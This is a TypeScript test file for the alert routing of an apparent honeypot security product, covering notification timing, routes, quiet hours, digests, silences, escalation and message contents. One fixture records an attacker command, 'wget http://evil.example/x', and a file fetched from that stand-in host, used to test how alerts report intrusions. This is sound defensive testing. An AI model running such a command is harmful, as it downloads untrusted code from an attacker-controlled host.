import type { Action } from '@netsentinel/contracts/action';
import type { AlertState, Delivery, Silence } from '@netsentinel/contracts/alert-book';
import type { Incident } from '@netsentinel/contracts/incident';
import { Notification } from '@netsentinel/contracts/notification';
import { actionFixture, incidentFixture } from '@netsentinel/testkit/contracts/state-store.suite';
import { describe, expect, it } from 'vitest';
import { AlertConfig } from '../alert.config.ts';
import { isSilenced, kindOf, routeFits } from './about.ts';
import { decide, type Asked, type Decision } from './decide.ts';
import { digestOf } from './digest.ts';
import { endOf, Hours, isWithin, nextAt } from './hours.ts';
import { messageOf } from './message.ts';
import { compileRouting } from './policy.ts';

const HOUR = 3_600_000;
const MINUTE = 60_000;
/** A Saturday. */
const NOON = Date.UTC(2026, 10, 21, 12);
const CONTEXT = {
  names: {
    tactics: { TA0006: 'Credential Access', TA0003: 'Persistence' },
    techniques: { 'T1110.001': 'Password Guessing' },
  },
  placeOf: () => ({ latitude: 0, longitude: 0, country: 'NL', radiusKm: 1 }),
  consoleUrl: 'https://console.example.com',
};
const url = { url: { value: 'https://hooks.example.com/x' } };
const NOTIFIERS = [
  { id: 'chat', type: 'slack', options: url },
  { id: 'mail', type: 'discord', options: url },
  { id: 'pager', type: 'pagerduty', options: { routingKey: { value: 'k' } } },
];

const config = (changes: Record<string, unknown> = {}) =>
  AlertConfig.parse({ notifiers: NOTIFIERS, groupWaitMs: 0, ...changes });
const policy = (changes: Record<string, unknown> = {}) => compileRouting(config(changes), new Set(['pager']));

let ids = 0;
function ask(incident: Incident, changes: Partial<Asked> = {}): Decision {
  return decide({
    incident,
    actions: [],
    state: undefined,
    silences: [],
    policy: policy(),
    context: CONTEXT,
    now: NOON,
    newId: () => `d${ids++}`,
    ...changes,
  });
}
const to = ({ deliveries }: Decision): string[] => deliveries.map(({ notifier }) => notifier).toSorted();
const kinds = ({ deliveries }: Decision): string[] => [
  ...new Set(deliveries.map(({ notification }) => notification.kind)),
];

describe('what is news', () => {
  it('tells a new incident once, to everybody where no routes are configured, from high on', () => {
    const first = ask(incidentFixture('i1'));
    expect(to(first)).toEqual(['chat', 'mail', 'pager']);
    expect(kinds(first)).toEqual(['opened']);
    expect(first.state).toMatchObject({ severity: 'high', told: ['chat', 'mail', 'pager'], toldAt: NOON });
    const again = ask(
      incidentFixture('i1', { counts: { events: 900, logins: 1, failures: 800, commands: 0 }, version: 9 }),
      { state: first.state, now: NOON + HOUR },
    );
    expect(again).toEqual({ state: first.state, dueAt: undefined, deliveries: [] });
    expect(ask(incidentFixture('i2', { severity: 'medium' }))).toEqual({
      state: undefined,
      dueAt: undefined,
      deliveries: [],
    });
  });

  it('gathers for a while first, and tells what had come up by then', () => {
    const waiting = ask(incidentFixture('i1'), { policy: policy({ groupWaitMs: 10_000 }) });
    expect(waiting).toMatchObject({ dueAt: NOON + 10_000, deliveries: [], state: { pendingSince: NOON } });
    const still = ask(incidentFixture('i1'), {
      policy: policy({ groupWaitMs: 10_000 }),
      state: waiting.state,
      now: NOON + 4000,
    });
    expect(still.dueAt).toBe(NOON + 10_000);
    const told = ask(incidentFixture('i1', { severity: 'critical' }), {
      policy: policy({ groupWaitMs: 10_000 }),
      state: waiting.state,
      now: NOON + 10_000,
    });
    expect(told.deliveries[0]!.notification).toMatchObject({ severity: 'critical', reason: 'New incident' });
    expect(told.state?.pendingSince).toBeUndefined();
  });

  it('tells of a rise and of a failed response at once, of a new tactic after a while, of each once', () => {
    const { state } = ask(incidentFixture('i1'));
    const rose = ask(incidentFixture('i1', { severity: 'critical' }), { state, now: NOON + MINUTE });
    expect(rose.deliveries[0]!.notification).toMatchObject({
      kind: 'changed',
      reason: 'Severity rose from high to critical',
    });
    const further = incidentFixture('i1', { severity: 'critical', tactics: ['TA0006', 'TA0003'] });
    const later = ask(further, { state: rose.state, now: NOON + 2 * MINUTE });
    expect(later).toMatchObject({ deliveries: [], dueAt: NOON + 16 * MINUTE });
    const tactic = ask(further, { state: later.state, now: NOON + 16 * MINUTE });
    expect(tactic.deliveries[0]!.notification.reason).toBe('New tactic: Persistence');
    const actions: Action[] = [actionFixture('a1', { status: 'failed', detail: 'nft said no' })];
    const failed = ask(further, { state: tactic.state, actions, now: NOON + 17 * MINUTE });
    expect(failed.deliveries[0]!.notification).toMatchObject({
      reason: 'A response failed',
      response: [expect.stringContaining('nft said no') as string],
    });
    expect(ask(further, { state: failed.state, actions, now: NOON + 18 * MINUTE }).deliveries).toEqual([]);
    const question: Action[] = [...actions, actionFixture('a2', { status: 'awaiting-approval' })];
    const asked = ask(further, { state: failed.state, actions: question, now: NOON + 18 * MINUTE });
    expect(asked.deliveries[0]!.notification.reason).toBe('A response waits for your approval');
    expect(asked.deliveries[0]!.notification.next[0]).toContain('response approve a2');
    expect(ask(further, { state: asked.state, actions: question, now: NOON + 19 * MINUTE }).deliveries).toEqual([]);
    // A fall is no rise when it comes back.
    const fallen = ask(incidentFixture('i1', { severity: 'high', tactics: ['TA0006', 'TA0003'] }), {
      state: failed.state,
      actions,
      now: NOON + HOUR,
    });
    expect(ask(further, { state: fallen.state, actions, now: NOON + 2 * HOUR }).deliveries).toEqual([]);
  });

  it('tells of the end only those who follow it, and then forgets it', () => {
    const { state } = ask(incidentFixture('i1'));
    for (const status of ['closed', 'benign'] as const) {
      const end = ask(incidentFixture('i1', { status }), { state });
      expect(to(end)).toEqual(['pager']);
      expect(end.deliveries[0]!.notification.kind).toBe('resolved');
      expect(end.state).toBeUndefined();
    }
    expect(ask(incidentFixture('i1', { status: 'closed' })).deliveries).toEqual([]);
  });
});

describe('routes', () => {
  const session = { id: 's', decoy: 'web-01', protocol: 'http', start: 0 };
  const incident = incidentFixture('i1', {
    sessions: [session],
    detections: [{ rule: 'login-brute-force', title: 'Brute force', severity: 'high', count: 1, first: 0, last: 0 }],
    counts: { events: 9, logins: 0, failures: 8, commands: 0 },
  });
  const fits = (route: Record<string, unknown>, now = NOON, one = incident): boolean => {
    const { routes, teams } = config({
      teams: [
        { id: 'web', assets: ['web-*'], notifiers: ['mail'] },
        { id: 'db', assets: ['db*'], notifiers: ['chat'] },
      ],
      routes: [{ id: 'r', to: ['chat'], ...route }],
    });
    return routeFits(routes[0]!, one, teams, now);
  };

  it('ask for severity, kind, asset, network, rule, team and hour', () => {
    for (const route of [
      {},
      { kinds: ['guessing'] },
      { assets: ['WEB-*'] },
      { assets: ['x', 'web-01'] },
      { networks: ['203.0.113.0/24'] },
      { rules: ['login-*'] },
      { teams: ['web'] },
    ])
      expect({ route, fits: fits(route) }).toEqual({ route, fits: true });
    for (const route of [
      { minSeverity: 'critical' },
      { kinds: ['scan'] },
      { assets: ['web'] },
      { assets: ['*-02'] },
      { networks: ['2001:db8::/32'] },
      { rules: ['x*'] },
      { teams: ['db'] },
      { hours: { days: ['mon'], from: '00:00', to: '00:00' } },
    ])
      expect({ route, fits: fits(route) }).toEqual({ route, fits: false });
    expect(fits({ minSeverity: 'info' }, NOON, incidentFixture('i', { severity: 'info' }))).toBe(true);
  });

  it('know what an incident is', () => {
    const counts = { events: 1, logins: 0, failures: 0, commands: 0 };
    expect(kindOf(incidentFixture('i'))).toBe('break-in');
    expect(kindOf(incidentFixture('i', { counts }))).toBe('probe');
    expect(kindOf(incidentFixture('i', { counts: { ...counts, commands: 1 } }))).toBe('attack');
    const rule = (id: string, severity: 'low' | 'high') => ({
      rule: id,
      title: id,
      severity,
      count: 1,
      first: 0,
      last: 0,
    });
    expect(kindOf(incidentFixture('i', { counts, detections: [rule('port-scan', 'low')] }))).toBe('scan');
    expect(kindOf(incidentFixture('i', { counts, detections: [rule('web-shell', 'high')] }))).toBe('attack');
    const scanner = { id: 's', name: 'S', kind: 'research' } as Incident['scanner'] & object;
    expect(kindOf(incidentFixture('i', { counts, scanner }))).toBe('known-scanner');
  });

  it('tell everybody once, as early as any of them wants, and the teams whose assets were touched', () => {
    const asked = {
      policy: policy({
        teams: [{ id: 'web', assets: ['web-*'], notifiers: ['mail'] }],
        routes: [
          { id: 'now', to: ['chat'], toTeams: true },
          { id: 'later', to: ['chat', 'pager'], digest: 'hourly' },
        ],
      }),
    };
    const { deliveries } = ask(incident, asked);
    expect(deliveries.map(({ notifier, held, dueAt }) => [notifier, held, dueAt - NOON])).toEqual([
      ['chat', false, 0],
      ['mail', false, 0],
      ['pager', true, HOUR],
    ]);
  });

  it('refuse names that nothing has', () => {
    const issues = (changes: Record<string, unknown>): string[] =>
      AlertConfig.safeParse({ notifiers: NOTIFIERS, ...changes }).error?.issues.map(
        ({ path, message }) => `${path.join('.')}: ${message}`,
      ) ?? [];
    expect(issues({ routes: [{ id: 'a', to: ['nobody'] }] })).toEqual(['routes.0.to.0: there is no notifier "nobody"']);
    expect(issues({ routes: [{ id: 'a' }] })[0]).toMatch(/tells nobody/);
    expect(
      issues({
        routes: [
          { id: 'a', to: ['chat'] },
          { id: 'a', to: ['chat'] },
        ],
      })[0],
    ).toMatch(/another route/);
    expect(
      issues({ routes: [{ id: 'a', to: ['chat'], teams: ['x'], escalate: [{ afterMs: HOUR, to: ['y'] }] }] }),
    ).toHaveLength(2);
    expect(issues({ teams: [{ id: 't', assets: ['a'], notifiers: ['z'] }] })).toHaveLength(1);
    expect(issues({ quietHours: [{ from: '25:00', to: '07:00' }] })).toHaveLength(1);
    expect(issues({ digestZone: 'Mars/Phobos' })).toHaveLength(1);
  });
});

describe('quiet hours and digests', () => {
  const night = Hours.parse({ from: '22:00', to: '07:00', zone: 'Europe/Berlin' });

  it('know the hours of a zone, over midnight and when clocks are changed', () => {
    expect(isWithin(night, Date.parse('2026-11-21T21:00:00Z'))).toBe(true);
    expect(isWithin(night, Date.parse('2026-11-21T20:59:00Z'))).toBe(false);
    expect(isWithin(night, Date.parse('2026-11-21T05:59:00Z'))).toBe(true);
    expect(endOf(night, Date.parse('2026-11-21T21:30:00Z'))).toBe(Date.parse('2026-11-22T06:00:00Z'));
    // The night in which Berlin's clocks go back an hour, and the one in which they go forward.
    expect(endOf(night, Date.parse('2026-10-24T21:00:00Z'))).toBe(Date.parse('2026-10-25T06:00:00Z'));
    expect(endOf(night, Date.parse('2026-03-28T22:00:00Z'))).toBe(Date.parse('2026-03-29T05:00:00Z'));
    expect(nextAt('08:00', 'UTC', Date.parse('2026-11-21T08:00:00Z'))).toBe(Date.parse('2026-11-22T08:00:00Z'));
    const saturdays = Hours.parse({ days: ['sat'], from: '22:00', to: '07:00' });
    expect(isWithin(saturdays, Date.parse('2026-11-22T06:00:00Z'))).toBe(true);
    expect(isWithin(saturdays, Date.parse('2026-11-21T06:00:00Z'))).toBe(false);
    const always = Hours.parse({ from: '00:00', to: '00:00' });
    expect(endOf(always, NOON)).toBeGreaterThan(NOON);
  });

  it('hold back what is not bad enough, and what a route does not exempt', () => {
    const quietHours = [
      { days: ['sat'], from: '10:00', to: '18:00' },
      { from: '18:00', to: '07:00' },
    ];
    const held = ask(incidentFixture('i1'), { policy: policy({ quietHours }) });
    expect(held.deliveries.every((one) => one.held && one.dueAt === Date.parse('2026-11-22T07:00:00Z'))).toBe(true);
    expect(
      ask(incidentFixture('i1', { severity: 'critical' }), { policy: policy({ quietHours }) }).deliveries[0]!.held,
    ).toBe(false);
    const exempt = policy({ quietHours, routes: [{ id: 'r', to: ['chat'], quietHours: false }] });
    expect(ask(incidentFixture('i1'), { policy: exempt }).deliveries[0]!.held).toBe(false);
    const daily = policy({
      routes: [{ id: 'r', to: ['chat'], digest: 'daily' }],
      digestAt: '08:30',
      digestZone: 'Europe/Berlin',
    });
    expect(ask(incidentFixture('i1'), { policy: daily }).deliveries[0]).toMatchObject({
      held: true,
      dueAt: Date.parse('2026-11-22T07:30:00Z'),
    });
  });

  it('make one message of many, which adds up', () => {
    const delivery = (i: number, changes: Partial<Notification> = {}): Delivery => {
      const [first] = ask(incidentFixture(`i${i}`)).deliveries;
      return { ...first!, notification: { ...first!.notification, ...changes } };
    };
    const some = digestOf(
      [delivery(1), delivery(2, { severity: 'critical' }), delivery(1, { severity: 'critical' })],
      'x',
      NOON,
      'why',
    );
    expect(some.digest).toMatchObject({ count: 3, bySeverity: { high: 1, critical: 2 } });
    expect(some.digest!.listed.map(({ incident }) => incident).toSorted()).toEqual(['i1', 'i2']);
    const all = digestOf(
      [delivery(0, some), ...Array.from({ length: 40 }, (_, i) => delivery(i + 3))],
      'y',
      NOON,
      'why',
    );
    expect(all).toMatchObject({ severity: 'critical', digest: { count: 43, bySeverity: { high: 41, critical: 2 } } });
    expect(all.digest!.listed).toHaveLength(20);
    expect(all.digest!.listed[0]!.severity).toBe('critical');
    expect(Notification.safeParse(all).success).toBe(true);
  });
});

describe('silences', () => {
  const silence = (changes: Partial<Silence>): Silence => ({
    id: crypto.randomUUID(),
    reason: 'a test',
    by: 'me',
    at: NOON,
    until: NOON + HOUR,
    ...changes,
  });
  const session = (decoy: string) => ({ id: decoy, decoy, protocol: 'ssh', start: 0 });
  const rule = (id: string) => ({ rule: id, title: id, severity: 'high' as const, count: 1, first: 0, last: 0 });

  it('fit by address, rule and decoy, all that is named, until they end', () => {
    const incident = incidentFixture('i1', { sessions: [session('a')], detections: [rule('r')] });
    for (const one of [
      { address: '203.0.113.7' },
      { address: '203.0.113.0/24' },
      { rule: 'r' },
      { decoy: 'a' },
      { address: '203.0.113.7', decoy: 'a' },
    ])
      expect({ one, is: isSilenced(incident, [silence(one)], NOON) }).toEqual({ one, is: true });
    for (const one of [
      { address: '203.0.113.8' },
      { rule: 'x' },
      { decoy: 'b' },
      { address: '203.0.113.7', decoy: 'b' },
      { decoy: 'a', until: NOON },
      { decoy: 'a', ended: { by: 'me', at: NOON } },
    ])
      expect({ one, is: isSilenced(incident, [silence(one)], NOON) }).toEqual({ one, is: false });
    const more = incidentFixture('i1', { sessions: [session('a'), session('b')], detections: [rule('r'), rule('s')] });
    expect(isSilenced(more, [silence({ decoy: 'a' }), silence({ rule: 'r' })], NOON)).toBe(false);
  });

  it('say nothing, and what happens after them is told', () => {
    const silences = [silence({ address: '203.0.113.7' })];
    expect(ask(incidentFixture('i1'), { silences })).toEqual({ state: undefined, dueAt: undefined, deliveries: [] });
    expect(ask(incidentFixture('i1'), { silences, now: NOON + HOUR }).deliveries).toHaveLength(3);
  });
});

describe('escalation', () => {
  const steps = policy({
    routes: [
      {
        id: 'night',
        to: ['chat'],
        escalate: [
          { afterMs: 10 * MINUTE, to: ['mail'] },
          { afterMs: 30 * MINUTE, to: ['pager'] },
        ],
      },
    ],
  });

  it('tells more people while nobody has it, each step once', () => {
    const first = ask(incidentFixture('i1'), { policy: steps });
    expect(to(first)).toEqual(['chat']);
    expect(first.dueAt).toBe(NOON + 10 * MINUTE);
    const second = ask(incidentFixture('i1'), { policy: steps, state: first.state, now: NOON + 10 * MINUTE });
    expect(to(second)).toEqual(['mail']);
    expect(second.deliveries[0]!.notification).toMatchObject({
      kind: 'escalated',
      reason: 'Nobody has acknowledged it for 10 minutes',
    });
    expect(second.dueAt).toBe(NOON + 30 * MINUTE);
    const third = ask(incidentFixture('i1'), { policy: steps, state: second.state, now: NOON + 31 * MINUTE });
    expect(to(third)).toEqual(['pager']);
    expect(third.dueAt).toBeUndefined();
    expect(third.state?.told).toEqual(['chat', 'mail', 'pager']);
  });

  it('ends with an acknowledgement', () => {
    const { state } = ask(incidentFixture('i1'), { policy: steps });
    const acknowledged: AlertState = { ...state!, acknowledged: { by: 'me', at: NOON } };
    expect(ask(incidentFixture('i1'), { policy: steps, state: acknowledged, now: NOON + HOUR })).toEqual({
      state: acknowledged,
      dueAt: undefined,
      deliveries: [],
    });
  });
});

describe('a message', () => {
  const told = { id: 'm1', kind: 'opened', reason: 'New incident', at: NOON } as const;

  it('holds what a person needs to decide, and no password', () => {
    const incident = incidentFixture('i1', {
      inside: 'machine',
      credentials: [
        { user: 'root', password: 'hunter2', accepted: true, count: 1, last: 0 },
        { user: 'admin', password: 'hunter3', accepted: false, count: 7, last: 0 },
      ],
      commands: [{ time: 0, input: 'wget http://evil.example/x', session: 's', techniques: [] }],
      files: [{ time: 0, path: '/tmp/x', url: 'http://evil.example/x', direction: 'download' }],
      sessions: [{ id: 's', decoy: 'bastion', protocol: 'ssh', start: 0 }],
    });
    const message = messageOf(incident, [actionFixture('a1', { status: 'verified', expiresAt: NOON })], told, CONTEXT);
    expect(Notification.parse(message)).toEqual(message);
    expect(message).toMatchObject({
      who: ['203.0.113.7 (NL)'],
      tactics: [{ id: 'TA0006', name: 'Credential Access' }],
      story: [
        'Logged in as root',
        '7 logins failed',
        'Ran: wget http://evil.example/x',
        'File: /tmp/x from http://evil.example/x',
      ],
      targets: ['bastion (SSH)', 'They were inside a real machine'],
      response: ['block of 203.0.113.7 (nftables): verified, until 2026-11-21 12:00 UTC'],
      incident: { url: 'https://console.example.com/incident/?id=i1' },
    });
    expect(message.next[0]).toContain('Change the password of root');
    expect(JSON.stringify(message)).not.toContain('hunter');
  });

  it('calls what was done by its name, and says who is watched rather than held', () => {
    const redirect = actionFixture('a1', { measure: 'redirect', status: 'verified', expiresAt: NOON });
    const watched = messageOf(incidentFixture('i1'), [redirect], told, CONTEXT);
    expect(watched.response).toEqual(['redirect of 203.0.113.7 (nftables): verified, until 2026-11-21 12:00 UTC']);
    expect(watched.next[0]).toBe(
      'The attacker is redirected to a decoy, not held: decide whether to block the address',
    );
    const both = messageOf(
      incidentFixture('i1'),
      [redirect, actionFixture('a2', { status: 'applied' })],
      told,
      CONTEXT,
    );
    expect(both.next.join()).not.toContain('not held');
    const asked = actionFixture('a3', { measure: 'rate-limit', status: 'awaiting-approval' });
    expect(messageOf(incidentFixture('i1'), [asked], told, CONTEXT).next[0]).toContain('Decide on the rate limit:');
  });

  it('does not call a redirect that works a failed response because of another that failed', () => {
    const redirect = actionFixture('a1', { measure: 'redirect', status: 'verified', expiresAt: NOON });
    const failed = actionFixture('a2', { status: 'failed', detail: 'no' });
    const { next } = messageOf(incidentFixture('i1'), [failed, redirect], told, CONTEXT);
    expect(next[0]).toBe('The attacker is redirected to a decoy, not held: decide whether to block the address');
    expect(next.join()).not.toContain('by hand');
    expect(messageOf(incidentFixture('i1'), [failed], told, CONTEXT).next[0]).toContain('by hand');
  });

  it('stays within its bounds whatever an incident holds', () => {
    const long = 'x'.repeat(1024);
    const incident = incidentFixture('i1', {
      title: long,
      actor: 'host:web-01',
      addresses: Array.from({ length: 16 }, (_, i) => `2001:db8::${i}`),
      sourceVerified: false,
      credentials: Array.from({ length: 200 }, (_, i) => ({ user: long + i, accepted: true, count: 1, last: 0 })),
      commands: Array.from({ length: 500 }, () => ({ time: 0, input: long.repeat(4), session: 's', techniques: [] })),
      files: Array.from({ length: 200 }, () => ({ time: 0, path: long, direction: 'write' as const })),
      sessions: Array.from({ length: 200 }, (_, i) => ({
        id: `${i}`,
        decoy: long.slice(0, 900) + i,
        protocol: 'ssh',
        start: 0,
      })),
      detections: Array.from({ length: 200 }, (_, i) => ({
        rule: `r${i}`,
        title: long,
        severity: 'high' as const,
        count: 2,
        first: 0,
        last: 0,
      })),
      tactics: Array.from({ length: 32 }, (_, i) => `TA${1000 + i}`),
      techniques: Array.from({ length: 128 }, (_, i) => `T${1000 + i}`),
    });
    const actions = (['failed', 'refused', 'planned', 'simulated'] as const).flatMap((status, i) =>
      Array.from({ length: 4 }, (_, j) => actionFixture(`a${i}${j}`, { status, detail: long })),
    );
    const message = messageOf(incident, actions, { ...told, reason: long }, CONTEXT);
    expect(Notification.safeParse(message).error).toBeUndefined();
    expect(message.who).toContain('The address is not proven: it may be forged');
    expect(message.next[0]).toContain('not held');
    const plain = messageOf(incidentFixture('i2', { addresses: [] }), [], told, { names: CONTEXT.names });
    expect(plain).toMatchObject({ who: ['203.0.113.7'], response: ['Nothing was blocked'] });
    expect(plain.incident).not.toHaveProperty('url');
  });
});
